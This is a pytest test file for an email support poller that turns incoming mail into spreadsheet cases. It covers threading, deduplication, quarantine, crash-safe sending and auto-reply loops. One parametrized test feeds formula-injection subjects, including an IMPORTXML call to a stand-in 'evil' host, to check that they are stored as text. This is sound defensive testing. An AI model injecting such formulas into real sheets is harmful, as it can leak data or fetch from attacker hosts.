"""The poll cycle end to end on the embedded adapters (Maildir, .eml files, in-memory store).

The clock is passed in; nothing sleeps.  Each test drives the real cycle function.
"""

from __future__ import annotations

import email
import email.policy
import shutil
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import pytest

from automation import config
from automation.adapters.file_outbox import FileOutbox
from automation.adapters.maildir_inbox import MaildirInbox
from automation.adapters.memory_store import MemoryStore
from automation.cycle.decisions import DecisionSource
from automation.cycle.poll import Runtime, poll_cycle
from automation.outgoing.contexts import sample_context
from automation.outgoing.ledger import Ledger
from automation.outgoing.templates import TemplateSet
from automation.sheet import sent_log as sentlog
from automation.state import FileStateDir

NOW = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)


def make_runtime(base: Path, store: MemoryStore | None = None, **poll: int) -> Runtime:
    cfg = config.from_dict(
        {
            "inbox": {"kind": "maildir", "maildir": {"path": "mail"}},
            "outbox": {"kind": "files", "files": {"path": "outbox"}},
            "business": {
                "name": "Acme",
                "support_address": "help@acme.example",
                "own_domains": ["acme.example"],
            },
            "poll": {"state_dir": "state", **poll},
        },
        base_dir=str(base),
    )
    state = FileStateDir(base / "state")
    return Runtime(
        config=cfg,
        inbox=MaildirInbox(cfg.inbox.maildir, base),
        outbox=FileOutbox(cfg.outbox.files, base),
        store=store or MemoryStore(),
        templates=TemplateSet(None, sample_context(cfg)),
        decisions=DecisionSource(),
        ledger=Ledger(state),
        state=state,
    )


def deliver(base: Path, raw: bytes, name: str) -> None:
    for sub in ("tmp", "new", "cur"):
        (base / "mail" / sub).mkdir(parents=True, exist_ok=True)
    (base / "mail" / "new" / name).write_bytes(raw)


def mail(
    subject: str,
    mid: str,
    sender: str = "Hana Ito <hana@customer.example>",
    body: str = "My lamp arrived broken.",
    **headers: str,
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "help@acme.example"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(NOW - timedelta(minutes=5))
    msg["Message-ID"] = f"<{mid}>"
    for key, value in headers.items():
        msg[key.replace("_", "-")] = value
    msg.set_content(body)
    return msg.as_bytes()


def sent(base: Path) -> list[EmailMessage]:
    out = []
    for path in sorted((base / "outbox").glob("*.eml")):
        msg = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert isinstance(msg, EmailMessage)
        out.append(msg)
    return out


def left_in_inbox(base: Path) -> int:
    return sum(len(list((base / "mail" / d).glob("*"))) for d in ("new", "cur"))


def test_new_mail_becomes_a_case_with_one_acknowledgement(tmp_path: Path) -> None:
    rt = make_runtime(tmp_path)
    deliver(tmp_path, mail("Broken lamp", "m1@customer.example"), "1.m1")
    report = poll_cycle(rt, NOW)
    assert report.exit_code == 0 and report.counts["case created"] == 1
    store = rt.store
    assert isinstance(store, MemoryStore)
    case = store.case("C-1000")
    assert case is not None
    assert case.get("Subject") == "Broken lamp"
    assert case.get("Customer email") == "hana@customer.example"
    assert case.get("Priority") == "High" and case.get("Status") == "New"  # safe defaults
    [entry] = sentlog.parse(case.get("Sent log"))
    assert entry.state == "sent"
    [ack] = sent(tmp_path)
    assert "[Case #1000]" in ack["Subject"]
    assert ack["In-Reply-To"] == "<m1@customer.example>"
    assert ack["Auto-Submitted"] == "auto-replied"
    assert ack["Message-ID"] == f"<{entry.message_id}>"
    assert left_in_inbox(tmp_path) == 0


def test_reply_to_our_acknowledgement_joins_the_case(tmp_path: Path) -> None:
    rt = make_runtime(tmp_path)
    deliver(tmp_path, mail("Broken lamp", "m1@customer.example"), "1.m1")
    poll_cycle(rt, NOW)
    [ack] = sent(tmp_path)
    # A reply that dropped the tag from the subject still threads by In-Reply-To.
    deliver(
        tmp_path,
        mail("Re: Broken lamp", "m2@customer.example", In_Reply_To=ack["Message-ID"]),
        "2.m2",
    )
    report = poll_cycle(rt, NOW + timedelta(minutes=3))
    assert report.counts["reply threaded"] == 1 and report.counts["case created"] == 0
    assert isinstance(rt.store, MemoryStore)
    case = rt.store.case("C-1000")
    assert case is not None and case.get("Messages") == "2"
    assert len(sent(tmp_path)) == 1  # a reply gets no second acknowledgement


def test_out_of_office_opens_nothing_and_is_logged(tmp_path: Path) -> None:
    rt = make_runtime(tmp_path)
    deliver(
        tmp_path,
        mail("Out of office: Re: hello", "ooo@x.example", Auto_Submitted="auto-replied"),
        "1.ooo",
    )
    report = poll_cycle(rt, NOW)
    assert report.counts["case created"] == 0
    assert isinstance(rt.store, MemoryStore)
    noncases = rt.store.tabs["Non-cases"]
    assert noncases[1][1] == "auto-reply" and "Auto-Submitted" in noncases[1][2]
    assert sent(tmp_path) == [] and left_in_inbox(tmp_path) == 0


def test_same_message_id_never_makes_two_cases(tmp_path: Path) -> None:
    rt = make_runtime(tmp_path)
    deliver(tmp_path, mail("Broken lamp", "dup@customer.example"), "1.a")
    deliver(tmp_path, mail("Broken lamp", "dup@customer.example"), "2.b")
    poll_cycle(rt, NOW)
    deliver(tmp_path, mail("Broken lamp", "dup@customer.example"), "3.c")
    poll_cycle(rt, NOW + timedelta(minutes=1))
    assert isinstance(rt.store, MemoryStore)
    assert [c.case_id for c in rt.store.load().cases] == ["C-1000"]
    assert len(sent(tmp_path)) == 1


def test_poison_message_is_quarantined_and_does_not_block(tmp_path: Path) -> None:
    rt = make_runtime(tmp_path, max_message_bytes=4000)
    deliver(tmp_path, mail("huge", "big@x.example", body="x" * 10_000), "1.big")
    deliver(tmp_path, mail("Broken lamp", "m1@customer.example"), "2.ok")
    report = poll_cycle(rt, NOW)
    assert report.counts["quarantined"] == 1 and report.counts["case created"] == 1
    assert report.exit_code == 4
    assert isinstance(rt.store, MemoryStore)
    [_, row] = rt.store.tabs["Quarantine"]
    assert "limit" in row[1]
    assert left_in_inbox(tmp_path) == 1  # the poison stays in the inbox, tagged
    again = poll_cycle(rt, NOW + timedelta(minutes=1))
    assert again.counts["fetched"] == 0  # and is not picked up again


def test_crash_after_send_before_record_does_not_resend(tmp_path: Path) -> None:
    store = MemoryStore()
    rt = make_runtime(tmp_path, store)
    deliver(tmp_path, mail("Broken lamp", "m1@customer.example"), "1.m1")
    poll_cycle(rt, NOW)
    # Rewind the sheet's record to "pending", as if the process died right after
    # the email went out and before the second write; and lose the local state.
    grid = store.tabs["Cases"]
    col = grid[0].index("Sent log")
    grid[1][col] = grid[1][col].replace(" sent ", " pending ")
    shutil.rmtree(tmp_path / "state")
    rt2 = make_runtime(tmp_path, store)
    report = poll_cycle(rt2, NOW + timedelta(minutes=2))
    assert report.counts["email already out"] == 1 and report.counts["email sent"] == 0
    assert len(sent(tmp_path)) == 1


def test_auto_responder_loop_is_capped(tmp_path: Path) -> None:
    rt = make_runtime(tmp_path, ack_limit_per_sender=2, ack_window_minutes=60)
    for n in range(5):
        deliver(
            tmp_path,
            mail(f"Question {n}", f"q{n}@robot.example", sender="robot@robot.example"),
            f"{n}.q",
        )
    report = poll_cycle(rt, NOW)
    assert report.counts["case created"] == 5
    assert len(sent(tmp_path)) == 2 and report.counts["ack suppressed"] == 3
    assert isinstance(rt.store, MemoryStore)
    notes = [c.get("Poller note") for c in rt.store.load().cases]
    assert sum("auto-responder loop" in n for n in notes) == 3


def test_team_cells_survive_reply_bookkeeping(tmp_path: Path) -> None:
    store = MemoryStore()
    rt = make_runtime(tmp_path, store)
    deliver(tmp_path, mail("Broken lamp", "m1@customer.example"), "1.m1")
    poll_cycle(rt, NOW)
    grid = store.tabs["Cases"]
    header = grid[0]
    grid[1][header.index("Internal notes")] = "VIP, handle gently"
    grid[1][header.index("Status")] = "Resolved"
    deliver(tmp_path, mail("Re: [Case #1000] Broken lamp", "m2@customer.example"), "2.m2")
    report = poll_cycle(rt, NOW + timedelta(hours=1))
    assert report.counts["reopened"] == 1
    case = store.case("C-1000")
    assert case is not None
    assert case.get("Internal notes") == "VIP, handle gently" and case.get("Status") == "Resolved"
    assert case.get("Poller note").startswith("REOPENED")


@pytest.mark.parametrize("subject", ['=IMPORTXML("http://evil/","//a")', "+cmd", "@SUM(A1)"])
def test_formula_like_subject_is_stored_as_text(tmp_path: Path, subject: str) -> None:
    rt = make_runtime(tmp_path)
    deliver(tmp_path, mail(subject, "f@customer.example"), "1.f")
    poll_cycle(rt, NOW)
    assert isinstance(rt.store, MemoryStore)
    case = rt.store.case("C-1000")
    assert case is not None and case.get("Subject") == subject
